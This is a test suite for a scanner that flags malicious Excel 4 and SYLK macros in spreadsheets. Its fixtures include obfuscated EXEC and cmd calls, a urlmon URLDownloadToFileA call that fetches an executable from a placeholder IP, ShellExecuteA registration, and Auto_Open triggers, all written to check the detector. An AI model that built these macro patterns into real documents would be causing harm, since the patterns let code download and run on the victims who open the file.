/** Excel 4 macro sheets are read in all formats of Excel, and judged by what they call. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { isAutoName } from '#inspect/judge/macros/excel4.ts'
import {
  CALLS_MAX,
  CHARACTERS_MAX,
  type MacroBook,
  REFERENCES_MAX,
  REPETITIONS_MAX,
  runMacros,
  STEPS_MAX,
  TEXT_MAX,
  WRITTEN_MAX,
} from '#inspect/programs/excel4/evaluate.ts'
import { DEPTH_MAX, type Formula, PARTS_MAX, parseFormula } from '#inspect/programs/excel4/formula.ts'
import { assertCheap } from '#inspect/testing/cpu-time.ts'
import { useInspector } from '#inspect/testing/inspector.ts'
import { tokens, writeBiffXlm, writeXlm } from '#inspect/testing/xlm-writer.ts'
import { KEPT_BYTES_MAX } from './package.ts'
import { LINES_MAX } from './sylk.ts'
import { type Dialect, readTokens } from './tokens.ts'

const { inspect } = useInspector()

function found(document: Uint8Array): string[] {
  const { findings, obstacle } = inspect(document)
  assert.equal(obstacle, null)
  return findings
    .filter(({ id }) => /\.(?:Xlm|Sylk)\./.test(id))
    .map(({ id, severity }) => `${severity} ${id.slice('Docvet.'.length)}`)
}

const PRESENT = 'notice Xlm.Present'
const AUTO = 'suspicious Xlm.AutoStart'
const EXECUTE = 'malicious Xlm.Execute'
const LIBRARY = 'suspicious Xlm.Library'
const coded = (text: string): string => [...text].map((character) => `CHAR(${character.charCodeAt(0)})`).join('&')

suite('macro sheets in XML', () => {
  const cases: Record<string, [Parameters<typeof writeXlm>[0], string[]]> = {
    'that start a program': [{ formulas: ['EXEC("calc.exe")', 'HALT()'] }, [EXECUTE, AUTO, PRESENT]],
    'that build the call': [{ formulas: [`FORMULA(${coded('=EXEC("calc")')},A5)`] }, [EXECUTE, AUTO, PRESENT]],
    'that build it over several cells': [
      { formulas: [`SET.VALUE(B1,${coded('=EXE')})`, 'SET.NAME("x",B1&"C(""calc"")")', 'FORMULA(x,A9)'] },
      [EXECUTE, AUTO, PRESENT],
    ],
    'that take the call from a worksheet': [
      { formulas: ['FORMULA("="&data!A1&MID(data!A2,2,99),A9)'], data: ['EX', 'xEC("cmd /c x")'] },
      [EXECUTE, AUTO, PRESENT],
    ],
    'that download': [
      { formulas: ['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://192.0.2.1/a","a.exe",0,0)'] },
      [EXECUTE, AUTO, PRESENT],
    ],
    'that register a function of Windows': [
      { formulas: ['REGISTER("Shell32","ShellExecuteA","JJCCCCJ","x",,1,9)'], names: [] },
      [EXECUTE, PRESENT],
    ],
    'that hide the call in a condition': [
      { formulas: ['IF(GET.WORKSPACE(19),EXEC("calc"),CLOSE(TRUE))'] },
      [EXECUTE, AUTO, PRESENT],
    ],
    'under another path': [{ formulas: ['EXEC("calc")'], part: 'foo/bar.xml' }, [EXECUTE, AUTO, PRESENT]],
    'that are very hidden': [
      { formulas: ['HALT()'], names: [], state: 'veryHidden' },
      ['suspicious Xlm.HiddenSheet', PRESENT],
    ],
    'with a message': [{ formulas: ['ALERT("Hello")', 'HALT()'] }, [AUTO, PRESENT]],
    'with everyday steps': [
      { formulas: ['WORKBOOK.SELECT("data")', 'SORT(1,R1C1,1)', 'SET.VALUE(R9C9,TODAY())', 'PRINT()', 'RETURN()'] },
      [AUTO, PRESENT],
    ],
    'with a function that nobody knows': [{ formulas: ['ALERT("Hello")', 'MYMACRO()'] }, [AUTO, PRESENT]],
    'with a formula that cannot be read': [{ formulas: ['ALERT("Hello")', ')('] }, [AUTO, PRESENT]],
    'with a command as text for another function': [
      { formulas: [`RESULT(CHAR(61)&"EX"&"EC(""cmd /c start x.bat"")",R2C2)`] },
      [EXECUTE, AUTO, PRESENT],
    ],
    'with recorded steps': [
      { formulas: ['SELECT("R1C1")', 'FORMULA("Total")', 'FORMULA("=SUM(R1C1:R2C1)")', 'RETURN()'], names: [] },
      [PRESENT],
    ],
    'with a library of their own': [{ formulas: ['REGISTER("ANALYS32.XLL","fMain","J")'] }, [AUTO, LIBRARY, PRESENT]],
    'without formulas': [{ formulas: [] }, [PRESENT]],
  }
  for (const [name, [plan, expected]] of Object.entries(cases))
    test(name, () => assert.deepEqual(found(writeXlm(plan)).sort(), expected.sort()))

  test('are not where a worksheet has such formulas', () => {
    assert.deepEqual(found(writeXlm({ formulas: [], data: ['=EXEC("calc")'] })), [PRESENT])
  })
})

suite('macro sheets in workbooks of Excel 97', () => {
  const EXEC = 110
  const CALL = 150
  const CHAR = 111
  const { text, call, number, concatenated, fixed } = tokens
  const exec = Buffer.concat([text('calc.exe'), call(EXEC, 1)])
  const built = Buffer.concat([number(99), fixed(CHAR), text('alc'), concatenated, call(EXEC, 1)])

  test('that start a program, by a built-in or a written name', () => {
    assert.deepEqual(found(writeBiffXlm({ formulas: [exec] })), [EXECUTE, AUTO, PRESENT])
    assert.deepEqual(found(writeBiffXlm({ formulas: [exec], cutAt: 24 })), [EXECUTE, AUTO, PRESENT])
    assert.deepEqual(found(writeBiffXlm({ formulas: [built], name: 'auto_open_x' })), [EXECUTE, AUTO, PRESENT])
    assert.deepEqual(found(writeBiffXlm({ formulas: [Buffer.concat([text('urlmon'), text('a'), call(CALL, 2)])] })), [
      EXECUTE,
      AUTO,
      PRESENT,
    ])
  })
  test('are found by the list of sheets or by their header', () => {
    assert.deepEqual(found(writeBiffXlm({ formulas: [exec], listed: 0 })), [EXECUTE, AUTO, PRESENT])
    assert.deepEqual(found(writeBiffXlm({ formulas: [exec], header: 0x10 })), [EXECUTE, AUTO, PRESENT])
    assert.deepEqual(found(writeBiffXlm({ formulas: [exec], listed: 0, header: 0x10 })), [])
  })
  test('without a name that runs them', () => {
    assert.deepEqual(found(writeBiffXlm({ formulas: [exec], name: null })), [LIBRARY, PRESENT])
  })
  test('that only have commands with the same numbers', () => {
    const commands = [EXEC, CALL].map((each) => Buffer.concat([text('x'), call(each | 0x8000, 1)]))
    assert.deepEqual(found(writeBiffXlm({ formulas: commands })), [AUTO, PRESENT])
  })
})

suite('symbolic link files', () => {
  const slk = (...lines: string[]): Buffer => Buffer.from(`ID;P\r\nO;E\r\n${lines.join('\r\n')}\r\nE\r\n`)
  const AUTO_NAME = 'NN;NAuto_open;ER101C1;KOut Flank;F'

  test('that start a program', () => {
    assert.deepEqual(found(slk(AUTO_NAME, 'C;X1;Y101;K0;EEXEC("CALC.EXE")', 'C;X1;Y102;K0;EHALT()')), [
      'malicious Sylk.Macro',
      AUTO,
      PRESENT,
    ])
    assert.deepEqual(found(slk(AUTO_NAME, `C;X1;Y101;K0;EEXEC(${coded('cmd')}&" /c x")`)), [
      'malicious Sylk.Macro',
      AUTO,
      PRESENT,
    ])
  })
  test('that are tables', () => {
    assert.deepEqual(found(Buffer.from('ID;PWXL;N;E\r\nC;Y1;X1;K"Total"\r\nC;Y2;X1;K5;ESUM(R1C1)\r\nE\r\n')), [])
  })
  test('with too many lines are too complex', () => {
    const obstacleOf = (lines: number): string | undefined => {
      const text = `ID;P\nO;E\n${'F\n'.repeat(lines - 2)}`
      let reason: string | undefined
      assertCheap(() => (reason = inspect(Buffer.from(text)).obstacle?.reason))
      return reason
    }
    assert.equal(obstacleOf(LINES_MAX), undefined)
    assert.equal(obstacleOf(LINES_MAX + 1), 'too_complex')
  })
})

test('names that Excel runs', () => {
  for (const name of [
    'Auto_Open',
    '_xlnm.Auto_Open',
    'AUTO_OPEN123',
    'auto_close',
    'A\u0000uto_Open',
    '\uff21uto_Open',
    'Auto_Activate',
  ])
    assert.ok(isAutoName(name), name)
  for (const name of ['Print_Area', 'Automatic', 'MyAuto_Open', '_xlnm._FilterDatabase'])
    assert.ok(!isAutoName(name), name)
})

/** A macro sheet with the formulas in its first column. */
const bookOf = (formulas: readonly (Formula | null)[]): MacroBook => ({
  cells: new Map(formulas.map((formula, row) => [`m!${row},0`, { formula, value: null }])),
  macroSheets: new Set(['m']),
  names: new Map(),
})
const isExec = (name: string): boolean => name === 'EXEC'

suite('loops', () => {
  const HARMLESS = ['FOR("i",1,4)', 'ALERT(i)', 'NEXT()', 'RETURN()']
  const CASES: [name: string, built: string, ...formulas: string[]][] = [
    ['FOR', 'calc', 'FOR("i",1,4)', 'SET.NAME("s",s&MID("calc",i,1))', 'NEXT()', 'EXEC(s)'],
    ['FOR downwards', 'calc', 'FOR("i",4,1,-1)', 'SET.NAME("s",MID("calc",i,1)&s)', 'NEXT()', 'EXEC(s)'],
    [
      'FOR into a cell',
      'calc',
      'SET.VALUE(B1,"")',
      'FOR("i",1,4)',
      'SET.VALUE(B1,B1&MID("calc",i,1))',
      'NEXT()',
      'EXEC(B1)',
    ],
    ['FOR in FOR', '11122122', 'FOR("i",1,2)', 'FOR("j",1,2)', 'SET.NAME("s",s&i&j)', 'NEXT()', 'NEXT()', 'EXEC(s)'],
    ['FOR with INDEX', 'calc', 'FOR("i",1,4)', 'SET.NAME("s",s&INDEX(C1:C4,i))', 'NEXT()', 'EXEC(s)'],
    ['FOR with OFFSET', 'calc', 'FOR("i",0,3)', 'SET.NAME("s",s&OFFSET(C1,i,0))', 'NEXT()', 'EXEC(s)'],
    ['FOR.CELL', 'calc', 'FOR.CELL("x",C1:C4)', 'SET.NAME("s",s&x)', 'NEXT()', 'EXEC(s)'],
    [
      'WHILE',
      'calc',
      'SET.NAME("i",1)',
      'WHILE(i<5)',
      'SET.NAME("s",s&MID("calc",i,1))',
      'SET.NAME("i",i+1)',
      'NEXT()',
      'EXEC(s)',
    ],
    ['CONCAT of an area', 'calc', 'EXEC(CONCAT(C1:C4))'],
  ]
  const execs = (formulas: readonly string[]) => {
    const book = bookOf(formulas.map(parseFormula))
    for (const [row, letter] of [...'calc'].entries()) book.cells.set(`m!${row},2`, { formula: null, value: letter })
    book.names.set('S', { kind: 'value', value: '' })
    return runMacros(book, isExec)
  }
  for (const [name, built, ...formulas] of CASES)
    test(`${name} is evaluated`, () => assert.equal(execs(formulas).calls[0]?.args[0], built))

  test('areas of binary formulas have both corners', () => {
    const area = { row: 1, column: 2, last: { row: 3, column: 4 } }
    const BYTES = { biff5: '0100030002' + '04', biff8: '0100030002000400', xlsb: '010000000300000002000400' }
    for (const [dialect, corners] of Object.entries(BYTES) as [Dialect, string][]) {
      const read = (hex: string) =>
        readTokens(Buffer.from(hex, 'hex'), { dialect, sheetOf: () => 'a', nameOf: () => '' })
      assert.deepEqual(read(`25${corners}`), { kind: 'cell', sheet: null, ...area }, dialect)
      const sheet = dialect === 'biff5' ? '00'.repeat(14) : '0000'
      assert.deepEqual(read(`3b${sheet}${corners}`), { kind: 'cell', sheet: 'a', ...area }, dialect)
    }
  })

  test('that end nowhere or wait are run once', () => {
    for (const formulas of [
      ['FOR("i",1,4)', 'EXEC("a")'],
      ['WHILE(TRUE)', 'EXEC("a")', 'NEXT()'],
      ['NEXT()', 'EXEC("a")'],
      ['WHILE(UNKNOWN())', 'EXEC("a")', 'NEXT()'],
    ]) {
      const { calls, isComplete } = execs(formulas)
      assert.deepEqual([calls.length, isComplete], [1, true], formulas[0])
    }
    assert.deepEqual(execs(HARMLESS).calls, [])
  })

  test('are followed up to a number of repetitions', () => {
    // In both passes.
    const isComplete = (count: number) => execs([`FOR("i",1,${count})`, 'NEXT()']).isComplete
    assert.equal(isComplete(REPETITIONS_MAX / 2), true)
    assert.equal(isComplete(REPETITIONS_MAX / 2 + 1), false)
  })
})

suite('limits of macro sheets', () => {
  const run = (...formulas: string[]) => runMacros(bookOf(formulas.map(parseFormula)), isExec)

  test('parts and depth of a formula', () => {
    const parts = (count: number): boolean => parseFormula(Array(count).fill('1').join('+')) !== null
    assert.equal(parts(PARTS_MAX / 2), true)
    assert.equal(parts(PARTS_MAX / 2 + 1), false)
    const depth = (levels: number): boolean =>
      parseFormula(`${'('.repeat(levels - 1)}1${')'.repeat(levels - 1)}`) !== null
    assert.equal(depth(DEPTH_MAX), true)
    assert.equal(depth(DEPTH_MAX + 1), false)
  })
  test('steps', () => {
    const sum = Array(2_000).fill('1').join('+')
    // Each formula is evaluated twice.
    const fits = Math.floor(STEPS_MAX / (2 * (2 * 2_000 - 1)))
    assert.equal(run(...Array<string>(fits).fill(sum)).isComplete, true)
    assert.equal(run(...Array<string>(fits + 1).fill(sum)).isComplete, false)
  })
  test('cells that refer to each other', () => {
    const chain = (length: number): string[] => [
      ...Array.from({ length: length - 1 }, (_, i) => (i === 0 ? 'EXEC(A2)' : `A${i + 2}`)),
      '"x"',
    ]
    assert.deepEqual(run(...chain(REFERENCES_MAX)).calls[0]?.args, ['x'])
    assert.notDeepEqual(run(...chain(REFERENCES_MAX + 2)).calls[0]?.args, ['x'])
    assert.equal(run('EXEC(A1)').isComplete, true)
  })
  test('characters of a text', () => {
    assert.deepEqual(run(`EXEC(LEN(REPT("a",${TEXT_MAX})))`).calls[0]?.args, [String(TEXT_MAX)])
    assert.deepEqual(run(`EXEC(LEN(REPT("a",${TEXT_MAX + 1})))`).calls[0]?.args, ['\ufffd'])
    for (const long of [`REPT("a",${TEXT_MAX + 1})`, `REPT("a",${TEXT_MAX})&"b"`]) {
      assert.equal(run(`SET.NAME("s",${long})`, 'FORMULA(MID(s,9,9),A4)').isComplete, false, long)
    }
    assert.equal(run(`SET.NAME("s",REPT("a",${TEXT_MAX}))`, 'FORMULA(MID(s,9,9),A4)').isComplete, true)
  })
  test('characters of all texts', () => {
    // Each formula is evaluated twice.
    const fits = CHARACTERS_MAX / TEXT_MAX / 2
    const texts = (count: number) => run(...Array<string>(count).fill(`REPT("a",${TEXT_MAX})`)).isComplete
    assert.equal(texts(fits), true)
    assert.equal(texts(fits + 1), false)
  })
  test('formulas that are written', () => {
    // In both passes.
    const fits = WRITTEN_MAX / 2
    const written = (count: number) =>
      run(...Array.from({ length: count }, (_, i) => `SET.VALUE(B${i + 1},1)`)).isComplete
    assert.equal(written(fits), true)
    assert.equal(written(fits + 1), false)
  })
  test('sheets beside the macros', () => {
    const obstacleOf = (bytes: number) =>
      inspect(writeXlm({ formulas: ['HALT()'], data: ['x'.repeat(bytes)] })).obstacle?.reason
    // The rest of the parts has some hundred bytes.
    assert.equal(obstacleOf(KEPT_BYTES_MAX - 1_000), undefined)
    assert.equal(obstacleOf(KEPT_BYTES_MAX), 'too_complex')
  })
  test('calls', () => {
    const calls = (count: number): boolean => run(...Array.from({ length: count }, (_, i) => `EXEC(${i})`)).isComplete
    assert.equal(calls(CALLS_MAX), true)
    assert.equal(calls(CALLS_MAX + 1), false)
  })
})
